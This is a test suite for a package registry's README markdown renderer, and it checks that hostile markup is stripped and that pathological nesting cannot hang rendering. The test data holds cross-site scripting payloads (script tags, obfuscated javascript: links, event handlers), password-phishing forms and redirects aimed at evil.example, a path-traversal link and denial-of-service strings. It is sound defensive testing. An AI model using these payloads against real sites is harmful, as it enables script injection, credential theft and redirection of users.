import { describe, expect, it } from "vitest";
import { renderMarkdown } from "@/lib/packages/readme/render-markdown";
import { MOST_HTML, MOST_NODES } from "@/lib/packages/readme/rules";

const place = { name: "@acme/ui", version: "1.2.0" };

function html(text: string): string {
  const rendered = renderMarkdown(text, place);
  return rendered.form === "html" ? rendered.html : "";
}

describe("a hostile readme", () => {
  it.each([
    ["a script", "before <script>alert(1)</script> after", /script|alert/],
    ["a script in SVG", "<svg><script>alert(1)</script><circle/></svg>", /svg|script|alert/],
    ["a link that runs", "[x](javascript:alert(1))", /javascript|alert/],
    ["a link that runs, disguised", '<a href="java&#10;script:alert(1)">x</a>', /script|alert/],
    ["a link that runs, in capitals", '<a href="JaVaScRiPt:alert(1)">x</a>', /script|alert/],
    ["a data link", "[x](data:text/html;base64,PHNjcmlwdD4=)", /data:/],
    ["a vbscript link", "[x](vbscript:msgbox)", /vbscript/],
    ["a frame", '<iframe src="https://evil.example"></iframe>', /iframe|evil/],
    ["an object", '<object data="https://evil.example"></object><embed src="x">', /object|embed|evil/],
    ["a handler", '<p onclick="alert(1)" onmouseover=alert(2)>x</p>', /onclick|onmouse|alert/],
    ["a handler on an image", '<img src=x onerror="alert(1)">', /onerror|alert|<img/],
    ["a data image", "![x](data:image/svg+xml;base64,PHN2Zz4=)", /data:|<img/],
    ["a style", '<style>body{display:none}</style><p style="position:fixed;inset:0">x</p>', /style|position|display/],
    ["classes of the page", '<p class="fixed inset-0 bg-surface">x</p>', /fixed inset-0/],
    [
      "a form",
      '<form action="https://evil.example"><input type="password" name="p"><button>Go</button></form>',
      /form|password|button|evil/,
    ],
    ["media", '<video src="https://evil.example/x" autoplay></video><audio src=x></audio>', /video|audio|evil/],
    ["responsive images", '<picture><source srcset="https://evil.example/x"><img src=y></picture>', /srcset|evil|<img/],
    [
      "a page refresh",
      '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="//evil.example">',
      /meta|base|evil/,
    ],
    ["an id of the page", '<a id="main" name="main">x</a><h2 id="main">y</h2>', /id="main"|name="main"/],
  ])("%s is gone", (_, text, never) => {
    expect(renderMarkdown(text, place)).toMatchObject({ form: "html", complete: true });
    expect(html(text)).not.toMatch(never);
  });

  it("what is harmless beside it stays", () => {
    expect(html("before <script>alert(1)</script> after")).toContain("before  after");
    expect(html("<p onclick=alert(1)>text</p>")).toContain("<p>text</p>");
  });

  it.each([
    ["quotes in quotes", ">".repeat(100_000)],
    ["quotes in quotes, many times", `${"> ".repeat(40)}a\n\n`.repeat(1_000)],
    ["lists in lists", Array.from({ length: 400 }, (_, depth) => `${" ".repeat(depth * 2)}- x`).join("\n")],
    ["lists in one line", "- ".repeat(50_000)],
    ["elements in elements", "<b>".repeat(33_000)],
    ["elements in elements, just below", "<b>".repeat(7_900)],
    ["brackets", "[".repeat(100_000)],
    ["images in images, just below", "![".repeat(7_900)],
    ["stars", "*a **a ".repeat(14_000)],
    ["stars, just below", "*a **a ".repeat(2_600)],
  ])("%s neither end the process nor hold it for long", (_, text) => {
    const began = performance.now();
    expect(renderMarkdown(text, place).form).toMatch(/^(html|plain)$/);
    expect(performance.now() - began).toBeLessThan(5_000);
  });
});

describe("an honest readme", () => {
  it("links to the web openly, and to files of the same version", () => {
    expect(html("[a](https://example.com/x)")).toContain(
      'href="https://example.com/x" rel="nofollow noopener noreferrer"',
    );
    expect(html("[a](mailto:a@example.com)")).toContain('href="mailto:a@example.com"');
    expect(html("[a](./docs/guide.md)")).toContain('href="/@acme/ui/v/1.2.0/files/docs/guide.md"');
    expect(html("[a](/LICENSE)")).toContain('href="/@acme/ui/v/1.2.0/files/LICENSE"');
    expect(html("[a](../../../etc/passwd)")).toContain('href="/@acme/ui/v/1.2.0/files/etc/passwd"');
  });

  it("has a table of contents that leads to its headings", () => {
    const page = html("[Usage](#how-to-use-it)\n\n# Title\n\n## How to use it?\n\n## How to use it?");
    expect(page).toContain('href="#readme-how-to-use-it"');
    expect(page).toContain('<h3 id="readme-how-to-use-it">');
    expect(page).toContain('<h3 id="readme-how-to-use-it-1">');
    expect(page).toContain('<h2 id="readme-title">');
    expect(page).not.toContain("<h1");
  });

  it("names images instead of fetching them, and keeps the link around a badge", () => {
    expect(html("![A chart](docs/chart.png)")).toMatch(
      /<a [^>]*href="\/@acme\/ui\/v\/1\.2\.0\/files\/docs\/chart\.png"[^>]*>Image: A chart<\/a>/,
    );
    expect(html("![Logo](https://img.example/x.png)")).toMatch(
      /<a href="https:\/\/img\.example\/x\.png"[^>]*>Image: Logo<\/a>/,
    );
    const badge = html("[![Build](https://img.example/b.svg)](https://ci.example)");
    expect(badge).toMatch(/<a href="https:\/\/ci\.example"[^>]*><span>Image: Build<\/span><\/a>/);
    expect(badge).not.toContain("img.example");
  });

  it("renders tables, task lists and code", () => {
    const page = html("|a|b|\n|-|-|\n|1|2|\n\n- [x] one\n- [ ] two\n\n```js\nlet a = 1 < 2;\n```");
    expect(page).toContain("<td>1</td>");
    expect(page).toContain('aria-label="done"');
    expect(page).toContain('aria-label="to do"');
    expect(page).not.toContain("<input");
    expect(page).toContain('<code class="language-js">let a = 1 &lt; 2;');
  });
});

describe("a readme of very many parts", () => {
  const notes = Array.from({ length: 1_500 }, (_, note) => note);
  const address = `https://example.com/${"a".repeat(2_000)}`;

  it.each([
    [
      "footnotes",
      `${notes.map((note) => `[^${note}]`).join(" ")}\n\n${notes.map((note) => `[^${note}]: n`).join("\n\n")}`,
    ],
    ["links", "[a](b) ".repeat(3_500)],
    ["cells", `|${"a|".repeat(30)}\n|${"-|".repeat(30)}\n${`|${"1|".repeat(30)}\n`.repeat(170)}`],
    ["long addresses by reference", `[a]: ${address}\n\n${"[a] ".repeat(200)}`],
  ])(
    "is cut after some of its %s",
    (_, text) => {
      const rendered = renderMarkdown(text, place);
      expect(rendered).toMatchObject({ form: "html", complete: false });
      const shown = "html" in rendered ? rendered.html : "";
      expect(shown.length).toBeLessThan(MOST_HTML);
      expect(shown.match(/<\w/g)?.length).toBeLessThanOrEqual(MOST_NODES);
    },
    20_000,
  );

  it("keeps all of one that is long and honest", () => {
    const text = "## 1.2.3\n\n- Fixed `a_thing` ([#123](https://example.com/123))\n\n".repeat(100);
    expect(html(text).match(/<h3 /g)).toHaveLength(100);
  });
});
